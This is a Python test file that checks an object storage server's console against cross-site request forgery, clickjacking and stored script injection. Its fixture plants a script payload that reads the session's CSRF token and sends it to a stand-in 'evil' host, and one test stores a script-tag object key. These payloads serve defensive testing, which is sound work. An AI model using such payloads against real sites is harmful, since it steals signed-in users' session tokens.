"""What another site, or an object itself, does through the browser of somebody who is signed in to the console."""

from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from tests.harness.server import Server

BUCKET = "browser"
PAGE = b"<script>fetch('/-/console/session').then(r => r.json()).then(s => location = '//evil/' + s.csrf)</script>"


@pytest.fixture(scope="module")
def bucket(s3: Any) -> str:
    s3.create_bucket(Bucket=BUCKET)
    s3.put_object(Bucket=BUCKET, Key="kept", Body=b"kept")
    for name, kind in (("page", "text/html"), ("image", "image/svg+xml"), ("script", "text/javascript"), ("none", "")):
        s3.put_object(Bucket=BUCKET, Key=name, Body=PAGE, **({"ContentType": kind} if kind else {}))
    return BUCKET


@pytest.fixture
def signed_in(server: Server) -> Iterator[httpx.Client]:
    """A browser with a session; its token is in ``params`` of nothing: only pages of the console know it."""
    access, secret = server.credentials
    with httpx.Client(base_url=server.endpoint) as browser:
        answer = browser.post("/-/console/session", json={"access_key": access, "secret_key": secret})
        assert answer.status_code == 200
        yield browser


def token_of(browser: httpx.Client) -> str:
    return str(browser.get("/-/console/session").json()["csrf"])


def test_a83_the_cookie_alone_does_nothing(signed_in: httpx.Client, bucket: str, s3: Any) -> None:
    """Requests that forms, images, links and scripts of other sites can have a browser send."""
    forms = ("application/x-www-form-urlencoded", "multipart/form-data; boundary=b", "text/plain")
    for headers in ({"origin": "https://evil.example"}, {"origin": "null"}, {"referer": "https://evil.example/x"}, {}):
        for kind in forms:
            for path in (f"/{bucket}?delete", f"/{bucket}/kept?uploads", "/-/admin/v1/users", "/-/console/link"):
                answer = signed_in.post(path, content=b"a=b", headers={**headers, "content-type": kind})
                assert answer.status_code in (400, 403, 404, 405, 412, 415), (path, kind, answer.text)
        for method, path in (
            ("GET", f"/{bucket}/kept"),
            ("DELETE", f"/{bucket}/kept"),
            ("PUT", f"/{bucket}/kept"),
            ("GET", "/-/admin/v1/users"),
            ("DELETE", "/-/admin/v1/users/root"),
        ):
            assert signed_in.request(method, path, headers=headers).status_code in (401, 403, 404), (method, path)
    assert s3.get_object(Bucket=bucket, Key="kept")["Body"].read() == b"kept"


def test_a83_the_token_does_nothing_for_other_sites(signed_in: httpx.Client, bucket: str) -> None:
    token = token_of(signed_in)
    mine = {"x-objstore-csrf": token, "sec-fetch-site": "same-origin"}
    assert signed_in.get(f"/{bucket}/kept", headers=mine).content == b"kept"
    for site in ("cross-site", "same-site"):
        theirs = {**mine, "sec-fetch-site": site, "origin": "https://evil.example"}
        assert signed_in.get(f"/{bucket}/kept", headers=theirs).status_code == 403
    assert signed_in.get(f"/{bucket}/kept", headers={"x-objstore-csrf": token[::-1]}).status_code == 403
    signed_in.cookies.clear()
    assert signed_in.get(f"/{bucket}/kept", headers=mine).status_code == 400, "the session is said to be over"


def test_a83_another_site_cannot_sign_somebody_in(server: Server) -> None:
    access, secret = server.credentials
    document = f'{{"access_key":"{access}","secret_key":"{secret}"}}'
    for headers in (
        {"content-type": "text/plain"},
        {"content-type": "application/x-www-form-urlencoded"},
        {"content-type": "application/json", "sec-fetch-site": "cross-site"},
    ):
        answer = httpx.post(f"{server.endpoint}/-/console/session", content=document, headers=headers)
        assert answer.status_code in (400, 403)
        assert "set-cookie" not in answer.headers


def test_a83_no_page_is_shown_in_a_frame(server: Server, signed_in: httpx.Client) -> None:
    for path in ("/-/console/", "/-/console/session", "/-/console/absent"):
        headers = signed_in.get(path).headers
        assert headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
    access, secret = server.credentials
    asked = {"access_key": access, "secret_key": secret}
    cookie = httpx.post(f"{server.endpoint}/-/console/session", json=asked).headers["set-cookie"]
    assert {"HttpOnly", "SameSite=Strict"} <= set(cookie.split("; "))
    assert secret not in cookie


@pytest.mark.parametrize("query", ["", "response-content-type=text/html", "response-content-type=image/svg%2Bxml"])
@pytest.mark.parametrize("key", ["page", "image", "script"])
def test_t20_what_an_object_says_runs_in_an_origin_of_its_own(
    signed_in: httpx.Client, bucket: str, key: str, query: str
) -> None:
    headers = signed_in.get(f"/{bucket}/{key}?{query}", headers={"x-objstore-csrf": token_of(signed_in)}).headers
    policy = headers["content-security-policy"]
    assert policy.startswith("sandbox")
    assert "allow-same-origin" not in policy
    assert "allow-top-navigation" not in policy
    assert headers["x-content-type-options"] == "nosniff"


def test_t20_bytes_of_no_type_are_downloaded(signed_in: httpx.Client, bucket: str) -> None:
    mine = {"x-objstore-csrf": token_of(signed_in)}
    assert signed_in.get(f"/{bucket}/none", headers=mine).headers["content-type"] == "binary/octet-stream"
    given = signed_in.get(f"/{bucket}/none?response-content-type=text/html", headers=mine).headers
    assert given["content-security-policy"].startswith("sandbox")


def test_t20_documents_of_the_server_run_nothing(signed_in: httpx.Client, bucket: str, s3: Any) -> None:
    """Names of keys and what is refused stand in XML, which a browser shows and does not run."""
    key = "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>"
    s3.put_object(Bucket=bucket, Key=key, Body=b"x")
    mine = {"x-objstore-csrf": token_of(signed_in)}
    for path in (f"/{bucket}?list-type=2", f"/{bucket}/absent<script>", f"/{bucket}?list-type=2&prefix=<script"):
        answer = signed_in.get(path, headers=mine)
        assert answer.headers["content-type"] == "application/xml"
        assert b"<script" not in answer.content
